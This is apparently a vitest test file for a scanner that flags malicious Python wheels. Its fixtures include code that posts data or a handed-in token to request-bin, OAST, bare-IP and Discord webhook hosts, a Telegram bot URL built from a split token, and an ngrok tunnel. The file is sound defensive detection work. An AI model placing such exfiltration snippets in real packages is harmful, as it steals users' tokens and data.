import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

test('a function that sends to a webhook collector is suspicious at its line', async () => {
  const file = wheel({
    'pkg/report.py': python(
      'import requests',
      'def report(text):',
      "    requests.post('https://requestbin.invalid/r/abc', data=text)",
    ),
  });

  expect(await inspect('throwaway-host', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'call', path: 'pkg/report.py', line: 3, hosts: ['requestbin.invalid'] },
  ]);
});

test('a callback domain weighs most, and a bare address by what it is sent', async () => {
  const file = wheel({
    'pkg/a.py': python('import socket', 'def ping():', "    socket.gethostbyname('x.oast.invalid')"),
    'pkg/b.py': python('import requests', 'def put(text):', "    requests.post('http://203.0.113.7/p', data=text)"),
    'pkg/c.py': python('import requests', 'def look():', "    return requests.get('http://203.0.113.7/v').json()"),
  });

  expect(await inspect('throwaway-host', file)).toMatchObject([
    { path: 'pkg/a.py', line: 3, score: 10 },
    { path: 'pkg/b.py', line: 3, score: 4 },
    { path: 'pkg/c.py', line: 3, score: 2 },
  ]);
});

test('a bot library, a service of its vendor and this machine are silent', async () => {
  const file = wheel({
    'pkg/bot.py': python(
      'import requests',
      'class Bot:',
      '    def __init__(self, token):',
      '        self.token = token',
      '    def send(self, chat, text):',
      "        requests.post(f'https://api.telegram.org/bot{self.token}/sendMessage', json={'chat_id': chat, 'text': text})",
    ),
    'pkg/client.py': python(
      'import requests',
      "def ask(): return requests.get('https://api.service.invalid/v1').json()",
      "def local(): return requests.get('http://127.0.0.1:8080/v1').json()",
    ),
  });

  expect(await inspect('throwaway-host', file)).toEqual([]);
});

test('a bot of the author, whose token stands in pieces in the code, is found', async () => {
  const file = wheel({
    'pkg/report.py': python(
      'from urllib.request import urlopen as touch',
      "PARTS = ['000000000', ':', 'NotARealToken' * 3]",
      'class Sender:',
      "    base = 'https://api.' + 'telegram.org/bot' + ''.join(PARTS)",
      '    def send(self, text):',
      "        touch(self.base + '/sendMessage?chat_id=1&text=' + text)",
    ),
  });

  expect(await inspect('throwaway-host', file)).toMatchObject([
    { class: 'suspicious', score: 6, context: 'call', path: 'pkg/report.py', line: 6 },
  ]);
});

test('a token that a small client is handed and that goes to a webhook of the code is stolen, a text is not', async () => {
  const client = (name: string): string =>
    python(
      'import requests',
      "HOOK = 'https://discord.com/api/webhooks/1100000000000000000/' + 'NotARealSecret' * 5",
      'class Client:',
      `    def __init__(self, ${name}):`,
      `        requests.post(HOOK, json={'content': ${name}})`,
    );

  expect(await inspect('throwaway-host', wheel({ 'pkg/client.py': client('token') }))).toMatchObject([
    { class: 'malware', score: 10, line: 5 },
  ]);
  expect(await inspect('throwaway-host', wheel({ 'pkg/client.py': client('text') }))).toMatchObject([
    { class: 'suspicious', score: 6 },
  ]);
});

test('a tunnel to the port that a caller names weighs less than one to a port of the code, and is called a way in', async () => {
  const opening = (port: string): string =>
    python(
      'from pyngrok import ngrok',
      `def share(${port === 'port' ? 'port' : ''}):`,
      `    return ngrok.connect(${port})`,
    );

  expect(await inspect('throwaway-host', wheel({ 'pkg/share.py': opening('port') }))).toMatchObject([
    { class: 'suspicious', score: 2, message: 'Opens a way into this machine from outside (pyngrok.ngrok.connect).' },
  ]);
  expect(await inspect('throwaway-host', wheel({ 'pkg/share.py': opening('4444') }))).toMatchObject([
    { class: 'suspicious', score: 4 },
  ]);
});
